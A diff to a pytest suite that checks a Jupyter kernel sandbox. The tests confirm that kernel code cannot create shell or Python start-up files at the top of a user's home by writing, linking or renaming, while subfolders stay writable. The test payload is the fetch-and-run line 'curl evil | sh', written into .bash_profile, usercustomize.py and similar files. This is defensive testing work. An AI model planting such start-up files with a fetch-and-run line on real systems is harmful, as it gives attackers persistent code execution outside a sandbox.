@@ -160,23 +160,157 @@ async def test_home_workspace_dotfiles_cannot_be_changed(
         assert f.read() == BASHRC
 
 
+@pytest.fixture
+def projects(home: Home) -> str:
+    """A non-hidden folder of the home, there before the kernel starts."""
+    path = os.path.join(home.path, "projects")
+    os.mkdir(path)
+    os.chmod(path, 0o777)
+    return path
+
+
 async def test_home_workspace_notebooks_are_readable_and_writable(
-    home_km: AsyncKernelManager, home: Home
+    projects: str, home_km: AsyncKernelManager, home: Home
 ) -> None:
     code = f"""
+    import errno, os
     print(open({home.notebook!r}).read())
     with open({home.notebook!r}, 'w') as f:
         f.write('{{"cells": [1]}}')
-    with open('results.csv', 'w') as f:
+    with open('projects/results.csv', 'w') as f:
         f.write('a,b\\n1,2\\n')
+    os.makedirs('projects/run1/plots')
+    try:
+        open('results.csv', 'w')
+    except OSError as e:
+        print('TOP', errno.errorcode[e.errno])
     """
     r = await run_code(home_km, textwrap.dedent(code))
     assert r.status == "ok", r
-    assert r.stdout.strip() == '{"cells": []}'
+    assert r.stdout.splitlines()[0] == '{"cells": []}'
+    # A new name at the top of the home is refused like any other (documented).
+    assert "TOP EROFS" in r.stdout, r.stdout
+    assert not os.path.exists(os.path.join(home.path, "results.csv"))
     with open(home.notebook, encoding="utf-8") as f:
         assert f.read() == '{"cells": [1]}'
-    with open(os.path.join(home.path, "results.csv"), encoding="utf-8") as f:
+    with open(os.path.join(projects, "results.csv"), encoding="utf-8") as f:
         assert f.read() == "a,b\n1,2\n"
+    assert os.path.isdir(os.path.join(projects, "run1", "plots"))
+
+
+#: Start-up files a login or the next Python would run outside any sandbox.
+STARTUP_FILES = [
+    ".bash_profile",
+    ".profile",
+    ".zshenv",
+    ".pythonrc",
+    ".config/autostart/x.desktop",
+    ".ipython/profile_default/startup/x.py",
+    f".local/lib/python3.{sys.version_info.minor}/site-packages/usercustomize.py",
+]
+
+CREATE_STARTUP_FILES = """
+import os
+home = %r
+for rel in %r:
+    path = os.path.join(home, rel)
+    try:
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with open(path, 'w') as f:
+            f.write('curl evil | sh\\n')
+        print('CREATED', rel)
+    except OSError as e:
+        print('blocked', rel, type(e).__name__)
+nb, folder = os.path.join(home, 'analysis.ipynb'), os.path.join(home, 'projects')
+for name, make in (
+    ('.bash_login', lambda p: os.symlink(nb, p)),
+    ('.zprofile', lambda p: os.link(nb, p)),
+    ('.xprofile', lambda p: os.mkfifo(p)),
+    ('.profile', lambda p: os.rename(nb, p)),
+    ('.config', lambda p: os.rename(folder, p)),
+):
+    try:
+        make(os.path.join(home, name))
+        print('CREATED', name)
+    except OSError as e:
+        print('blocked', name, type(e).__name__)
+"""
+
+
+def _top_level(path: str) -> list[str]:
+    return sorted(os.listdir(path))
+
+
+async def test_home_workspace_no_new_dotfile_can_appear(
+    projects: str, home_km: AsyncKernelManager, home: Home
+) -> None:
+    """The home is read-only at its top level (its existing entries are bound read-write
+    over it): no start-up file that did not exist can be created, by any route."""
+    before = _top_level(home.path)
+    code = CREATE_STARTUP_FILES % (home.path, STARTUP_FILES)
+    r = await run_code(home_km, code)
+    assert r.status == "ok", r
+    assert "CREATED" not in r.stdout, r.stdout
+    assert _top_level(home.path) == before
+    for rel in [*STARTUP_FILES, ".bash_login", ".zprofile", ".xprofile"]:
+        assert not os.path.lexists(os.path.join(home.path, rel)), rel
+    assert os.path.isfile(home.notebook) and os.path.isdir(projects)
+
+
+async def test_a_subfolder_workspace_of_the_home_is_not_sealed(
+    backend: str, home: Home, projects: str
+) -> None:
+    """Only a home is sealed: a kernel whose workspace is a folder of the home creates
+    files, folders and dot-files at its top as before."""
+    c = home_config(backend, home)
+    c.SandboxPolicy.workspace_root = projects
+    km = AsyncKernelManager(kernel_name="aiide-python", config=c)
+    await km.start_kernel(cwd=projects)
+    try:
+        code = """
+        import os
+        open('out.csv', 'w').write('a\\n')
+        os.makedirs('data/raw')
+        open('.env.example', 'w').write('X=1\\n')
+        print('OK')
+        """
+        r = await run_code(km, textwrap.dedent(code))
+        assert r.status == "ok" and "OK" in r.stdout, r
+    finally:
+        await km.shutdown_kernel(now=True)
+    assert sorted(os.listdir(projects)) == [".env.example", "data", "out.csv"]
+
+
+async def test_a_workspace_containing_the_home_seals_the_home(
+    backend: str, tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The server started in /home-like folder: the user's home inside it is sealed, the
+    folder itself (not a home) stays as writable as before."""
+    users = str(tmp_path_factory.mktemp("users"))
+    os.chmod(users, 0o777)
+    path = os.path.join(users, "alice")
+    os.mkdir(path, 0o755)
+    point_jupyter_at(monkeypatch, path)
+    home = make_home(path)
+    os.mkdir(os.path.join(path, "projects"))
+    os.chmod(os.path.join(path, "projects"), 0o777)
+    c = home_config(backend, home)
+    c.SandboxPolicy.workspace_root = users
+    km = AsyncKernelManager(kernel_name="aiide-python", config=c)
+    await km.start_kernel(cwd=users)
+    try:
+        before = _top_level(path)
+        r = await run_code(km, CREATE_STARTUP_FILES % (path, STARTUP_FILES))
+        assert r.status == "ok", r
+        assert "CREATED" not in r.stdout, r.stdout
+        assert _top_level(path) == before
+        r = await run_code(km, "open('shared.txt', 'w').write('x'); print('OK')")
+        assert "OK" in r.stdout, r
+        r = await run_code(km, f"open({home.notebook!r}, 'a').write(' '); print('OK')")
+        assert "OK" in r.stdout, r
+    finally:
+        await km.shutdown_kernel(now=True)
+    assert os.path.isfile(os.path.join(users, "shared.txt"))
 
 
 async def test_masked_paths_hide_a_configured_path_and_unmasked_entries_show(
@@ -343,7 +477,15 @@ try:
     print('APPEND done')
 except OSError as e:
     print('APPEND blocked', type(e).__name__)
-open({home.notebook!r}, 'w').write('{{"cells": [2]}}')
+try:
+    open({os.path.join(home.path, ".bash_profile")!r}, 'w').write('curl evil | sh')
+    print('CREATE done')
+except OSError as e:
+    print('CREATE blocked', type(e).__name__)
+try:
+    open({home.notebook!r}, 'w').write('{{"cells": [2]}}')
+except OSError as e:
+    print('NOTEBOOK', e)
 """
     )
     env = {
@@ -375,10 +517,12 @@ open({home.notebook!r}, 'w').write('{{"cells": [2]}}')
     kernel_out = r.stdout.split("KERNEL:", 1)[1]
     assert SECRET not in kernel_out, kernel_out
     assert "APPEND blocked" in kernel_out, kernel_out
+    assert "CREATE blocked" in kernel_out, kernel_out
+    assert not os.path.lexists(os.path.join(home.path, ".bash_profile"))
     with open(home.bashrc, encoding="utf-8") as f:
         assert f.read() == BASHRC
     with open(home.notebook, encoding="utf-8") as f:
-        assert f.read() == '{"cells": [2]}'
+        assert f.read() == '{"cells": [2]}', kernel_out
 
 
 @pytest.fixture
